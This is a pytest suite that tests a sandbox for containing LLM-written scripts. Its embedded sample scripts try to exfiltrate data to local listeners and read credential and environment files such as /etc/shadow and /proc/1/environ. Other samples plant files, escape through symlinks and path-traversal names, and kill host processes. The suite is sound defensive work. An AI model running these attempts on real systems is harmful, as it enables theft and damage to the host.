"""Attacks an LLM-written script could make, run on both backends.

Each attack is judged at the receiver on the host — a loopback listener, a canary secret, a
marker file, the process table — never by what the script prints. The benign controls show
the same channels do work, so a sandbox that blocks everything fails.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from scenweave.sandbox.settings import MIB
from tests.sandbox.evidence import (
    Listener,
    file_size,
    held_run,
    marker,
    peak_memory_bytes,
    processes_with,
)

REPO = Path(__file__).resolve().parents[2]


def output_text(out_dir: Path) -> str:
    """Everything the host received in the output folder, as text."""
    return "".join(p.read_text(errors="replace") for p in sorted(out_dir.rglob("*"))
                   if p.is_file() and not p.is_symlink())


def test_benign_script_runs_and_its_output_arrives(box, tmp_path):
    code = """
import os
import scenariogeneration
def generate(params, out_path):
    print("stdout says", params["text"])
    open(os.path.dirname(out_path) + "/note.txt", "w").write("note")
    open(out_path, "w").write(params["text"])
"""
    result = box.run(code, {"text": "<OpenSCENARIO/>"}, tmp_path)
    assert result.ok, result
    assert (tmp_path / "scenario.xosc").read_text() == "<OpenSCENARIO/>"
    assert (tmp_path / "note.txt").read_text() == "note"
    assert result.files == [tmp_path / "scenario.xosc", tmp_path / "note.txt"]
    assert result.warnings == []
    assert "stdout says <OpenSCENARIO/>" in result.stdout
    assert 0 < result.script_duration_s <= result.duration_s
    assert set(result.timings) == {"start", "import", "generate", "collect", "stop"}
    assert sum(result.timings.values()) == pytest.approx(result.duration_s, abs=0.5)


def test_script_errors_come_back_as_values(box, tmp_path):
    code = "def generate(params, out_path):\n    return params['missing_key']\n"
    result = box.run(code, {}, tmp_path)
    assert not result.ok
    assert result.exit_code == 1 and not result.timed_out
    assert (result.error_type, result.error_message) == ("KeyError", "'missing_key'")
    assert "script.py\", line 2, in generate" in result.traceback


def test_syntax_error_and_sys_exit_are_reported(box, tmp_path):
    assert box.run("def generate(:\n", {}, tmp_path).error_type == "SyntaxError"
    exiting = box.run("import sys\ndef generate(p, o):\n    sys.exit(3)\n", {}, tmp_path)
    assert (exiting.ok, exiting.error_type) == (False, "SystemExit")


def test_network_egress_reaches_no_listener(box, tmp_path):
    listener = Listener()
    code = """
import socket
def generate(params, out_path):
    tried = []
    for host in ("127.0.0.1", params["host_ip"]):
        tried.append(f"tcp {host}")
        try:
            socket.create_connection((host, params["tcp"]), timeout=1).sendall(b"stolen")
        except OSError:
            pass
        tried.append(f"udp {host}")
        try:
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.sendto(b"stolen", (host, params["udp"]))
        except OSError:
            pass
    open(out_path, "w").write(" ".join(tried))
"""
    host_ip = _host_ip()
    try:
        result = box.run(code, {"tcp": listener.tcp_port, "udp": listener.udp_port,
                                "host_ip": host_ip}, tmp_path)
        assert listener.received() == []
        assert result.ok, result  # control: it got through every attempt and reported
        assert (tmp_path / "scenario.xosc").read_text() == \
            f"tcp 127.0.0.1 udp 127.0.0.1 tcp {host_ip} udp {host_ip}"
        socket.create_connection(("127.0.0.1", listener.tcp_port), timeout=1).close()
        assert listener.received() != [], "control: the listener must hear the host itself"
    finally:
        listener.close()


def test_dns_resolution_fails_and_reaches_no_resolver(box, tmp_path):
    try:  # without a resolv.conf the resolver asks 127.0.0.1:53: listen there when we can
        resolver = Listener(udp_port=53)
    except OSError:
        resolver = None
    code = """
import socket
def generate(params, out_path):
    socket.getaddrinfo("scenweave-canary.example.org", 443)
    open(out_path, "w").write("resolved")
"""
    try:
        result = box.run(code, {}, tmp_path)
        if resolver is not None:
            assert resolver.received() == []
        assert result.error_type == "gaierror"
        assert not (tmp_path / "scenario.xosc").exists()
        if resolver is not None:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"q", ("127.0.0.1", 53))
            assert resolver.received() != [], "control: the resolver must hear the host itself"
    finally:
        if resolver is not None:
            resolver.close()


def test_host_environment_and_files_stay_secret(box, tmp_path, monkeypatch):
    canary = marker()
    monkeypatch.setenv("SCENWEAVE_CANARY_SECRET", canary)
    secret_file = Path("/tmp") / f"{canary}.secret"  # world-readable on the host
    secret_file.write_text(canary)
    secret_file.chmod(0o644)
    code = """
import glob, os
def generate(params, out_path):
    loot = [repr(dict(os.environ))]
    for path in ["/proc/1/environ", "/proc/self/environ", "/proc/2/environ", params["file"],
                 *glob.glob("/tmp/*.secret"), "/etc/shadow", "/root/.bash_history",
                 params["repo_file"]]:
        try:
            loot.append(open(path, errors="replace").read())
        except OSError:
            pass
    print(loot)
    open(out_path, "w").write("\\n".join(loot))
"""
    try:
        params = {"file": str(secret_file), "repo_file": str(REPO / "pyproject.toml")}
        result = box.run(code, params, tmp_path)
    finally:
        secret_file.unlink()
    assert result.ok, result
    received = output_text(tmp_path) + result.stdout + result.stderr
    assert "PATH" in received, "control: the script did write its loot"
    assert canary not in received
    assert 'name = "scenweave"' not in received  # the repository is not mounted


def test_nothing_is_written_outside_the_output_folder(box, tmp_path):
    victim_dir = Path("/tmp") / marker()
    victim_dir.mkdir(mode=0o777)
    victim_dir.chmod(0o777)
    targets = [victim_dir / "planted", REPO / "planted-by-sandbox",
               Path(box.settings.library_path() or "/nonexistent") / "planted.py",
               Path("/usr/planted"), Path("/etc/planted")]
    code = """
import os
def generate(params, out_path):
    paths = params["targets"] + ["/sandbox/job/script.py", "/sandbox/job/planted"]
    for path in paths:
        try:
            open(path, "w").write("planted")
        except OSError:
            pass
    open(out_path, "w").write(f"tried {len(paths)}")
"""
    try:
        result = box.run(code, {"targets": [str(t) for t in targets]}, tmp_path)
        assert result.ok, result  # control: it got through every attempt and reported
        assert (tmp_path / "scenario.xosc").read_text() == f"tried {len(targets) + 2}"
        assert [t for t in targets if t.exists()] == []
        assert os.listdir(victim_dir) == []
    finally:
        shutil.rmtree(victim_dir)


#: tries to write 16 MiB into each of params["targets"] and into a tmpfs of its own mounted
#: in a nested user namespace (held in a child tagged params["nested_tag"]), then writes the
#: controls and holds the sandbox open
WRITE_EVERYWHERE = """
import ctypes
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000

def fill(path, size):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
    except OSError:
        pass
    try:
        with open(path, "wb") as handle:
            for _ in range(size // 65536):
                handle.write(b"x" * 65536)
    except OSError:
        pass

def nested_mount(tag):
    ready, done = os.pipe()  # close-on-exec: EOF once the child holds
    if os.fork() == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
            fill("/tmp/nested", 16 << 20)
        hold(tag)
    os.close(done)
    os.read(ready, 1)

def generate(params, out_path):
    for path in params["targets"]:
        fill(path, 16 << 20)
    nested_mount(params["nested_tag"])
    for path in params["controls"]:
        fill(path, 256 << 10)
    hold(params["tag"])
"""
#: places an attacker would fill; none of them may take a byte (no symlinks on the way, so
#: /proc/<pid>/root/<place> shows the sandbox's own view)
NOT_WRITABLE = ["/planted", "/etc/planted", "/newdir/planted", "/dev/planted",
                "/dev/shm/planted", "/dev/mqueue/planted", "/var/tmp/planted", "/run/planted",
                "/usr/planted", "/sandbox/planted", "/sandbox/job/planted"]
WRITABLE = ["/out/control", "/tmp/control"]


def test_only_out_and_tmp_take_writes_inside_the_sandbox(box, tmp_path):
    params = {"tag": marker(), "nested_tag": marker(), "targets": NOT_WRITABLE,
              "controls": WRITABLE}

    def look(pid: int) -> dict:
        root = Path(f"/proc/{pid}/root")
        namespaces = [(os.readlink(f"/proc/{p}/ns/user"), os.readlink(f"/proc/{p}/ns/mnt"))
                      for p in [pid, *processes_with(params["nested_tag"])]]
        return {"planted": [p for p in NOT_WRITABLE if os.path.lexists(root / p[1:])],
                "controls": [file_size(root / p[1:]) for p in WRITABLE],
                "namespaces": namespaces, "peak": peak_memory_bytes(pid)}

    _, seen = held_run(box, WRITE_EVERYWHERE, params, tmp_path, look)
    assert seen["planted"] == []
    assert seen["controls"] == [256 << 10] * 2, "control: /out and /tmp take writes"
    own, *nested = seen["namespaces"]
    assert nested == [own], "the nested user namespace (and its own tmpfs) was refused"
    assert seen["peak"] is not None and seen["peak"] < 16 * MIB, "a 16 MiB write went somewhere"


def test_links_fifos_and_a_planted_link_never_lead_outside(box, tmp_path):
    victim = tmp_path.parent / f"{tmp_path.name}-victim"
    victim.write_text("untouched")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    (out_dir / "scenario.xosc").symlink_to(victim)  # planted on the host before the run
    code = """
import os
def generate(params, out_path):
    folder = os.path.dirname(out_path)
    os.symlink("/etc/passwd", folder + "/passwd.xosc")
    os.symlink("/dev/zero", folder + "/zero.xosc")
    os.symlink("/", folder + "/root")
    os.mkfifo(folder + "/fifo.xosc")
    open(out_path, "w").write("overwritten through the link?")
"""
    result = box.run(code, {}, out_dir)
    assert result.ok, result
    assert victim.read_text() == "untouched"
    assert sorted(p.name for p in out_dir.iterdir()) == ["scenario.xosc"]
    assert not (out_dir / "scenario.xosc").is_symlink()
    assert result.files == [out_dir / "scenario.xosc"]


def test_signalling_the_host_hits_nothing(box, tmp_path):
    bystander = subprocess.Popen(["sleep", "60"])
    code = """
import os, signal
def generate(params, out_path):
    inside = os.fork()
    if inside == 0:
        os.execv("/bin/sleep", ["sleep", "60"])
    for pid in [os.getppid(), params["host_pid"], params["bystander"], -1, 0, 1]:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    status = os.waitpid(inside, 0)[1]
    open(out_path, "w").write(f"sandboxed sleeper: {os.waitstatus_to_exitcode(status)}")
"""
    try:
        result = box.run(code, {"host_pid": os.getpid(), "bystander": bystander.pid}, tmp_path)
        assert bystander.poll() is None, "a host process was killed from inside the sandbox"
        assert result.ok, result  # control: the kills were sent, and hit the sandbox's own
        assert (tmp_path / "scenario.xosc").read_text() == "sandboxed sleeper: -9"
        os.kill(os.getpid(), 0)
    finally:
        bystander.send_signal(signal.SIGKILL)
        bystander.wait()


def test_forged_report_cannot_write_outside_or_crash_the_host(box, tmp_path):
    out_dir = tmp_path / "out"
    escape = tmp_path / "escaped.txt"
    code = """
import base64, json, os
def generate(params, out_path):
    evil = base64.b64encode(b"pwned").decode()
    report = {"error_type": None, "script_duration_s": 1e308, "traceback": ["x"] * 9,
              "marks": {"begun": "now", "imported": 1e308},
              "files": [{"name": "../escaped.txt", "data": evil},
                        {"name": "/tmp/abs.txt", "data": evil},
                        {"name": "..", "data": evil},
                        {"name": "scenario.xosc", "data": evil}]}
    with open("/sandbox/result.json", "w") as handle:
        json.dump(report, handle)
    os._exit(0)
"""
    result = box.run(code, {}, out_dir)
    assert not escape.exists() and not Path("/tmp/abs.txt").exists()
    assert [p.name for p in out_dir.iterdir()] == ["scenario.xosc"]  # the forged one arrives
    assert [w.split(":")[0] for w in result.warnings] == [
        "dropped output '../escaped.txt'", "dropped output '/tmp/abs.txt'",
        "dropped output '..'"]
    assert result.timings == {}  # the forged marks are not believed


#: files an LLM-written script can name so that a careless host trips over them
HOSTILE_NAMES = {"newline": (b"new\nline.xosc", "'new\\nline.xosc'"),
                 "non-UTF-8": (b"\xff\xfe.xosc", "'\\udcff\\udcfe.xosc'"),
                 "leading dash": (b"-rf.xosc", "'-rf.xosc'"),
                 "over-long": (b"x" * 200 + b".xosc", "(205 characters)"),
                 "in a folder": (b"sub/inner.xosc", "'sub/inner.xosc'"),
                 "outside the allow-list": (b"payload.sh", "'payload.sh'")}


def test_outputs_with_hostile_names_are_dropped_and_the_scenario_still_arrives(box, tmp_path):
    code = """
import os
def generate(params, out_path):
    folder = os.path.dirname(out_path).encode()
    os.mkdir(folder + b"/sub")
    for name in params["names"]:
        with open(folder + b"/" + bytes.fromhex(name), "w") as handle:
            handle.write("hostile")
    open(out_path, "w").write("<OpenSCENARIO/>")
"""
    names = {kind: name.hex() for kind, (name, _) in HOSTILE_NAMES.items()}
    result = box.run(code, {"names": list(names.values())}, tmp_path)
    assert result.ok, result
    assert sorted(os.listdir(tmp_path)) == ["scenario.xosc"]
    assert (tmp_path / "scenario.xosc").read_text() == "<OpenSCENARIO/>"
    assert result.files == [tmp_path / "scenario.xosc"]
    assert all(warning.isascii() and warning.isprintable() for warning in result.warnings)
    missing = [kind for kind, (_, shown) in HOSTILE_NAMES.items()
               if not any(shown in warning for warning in result.warnings)]
    assert missing == [], f"no warning names the {missing} output: {result.warnings}"
    assert len(result.warnings) == len(HOSTILE_NAMES)


def _host_ip() -> str:
    """A non-loopback address of this host (loopback when it has none)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))  # no packet is sent for a UDP connect
        return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


def test_parallel_attempts_stay_apart(box, tmp_path):
    code = """
import time
def generate(params, out_path):
    time.sleep(0.3)
    open(out_path, "w").write(params["text"])
"""
    with ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(lambda i: box.run(code, {"text": f"run {i}"}, tmp_path / str(i)),
                                range(2)))
    assert [r.ok for r in results] == [True, True]
    assert [(tmp_path / str(i) / "scenario.xosc").read_text() for i in range(2)] == \
        ["run 0", "run 1"]
    assert json.loads(json.dumps(results[0].to_dict()))["files"] == \
        [str(tmp_path / "0" / "scenario.xosc")]
